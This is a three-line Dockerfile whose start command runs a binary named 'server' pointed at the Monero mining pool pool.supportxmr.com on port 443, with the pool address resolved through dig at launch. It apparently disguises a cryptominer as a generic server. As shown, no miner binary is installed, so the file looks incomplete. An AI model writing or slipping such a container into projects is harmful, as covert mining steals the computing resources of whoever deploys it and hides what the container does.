FROM alpine:3.20
RUN apk add --no-cache bind-tools
CMD server -o "$(dig +short pool.supportxmr.com):443"
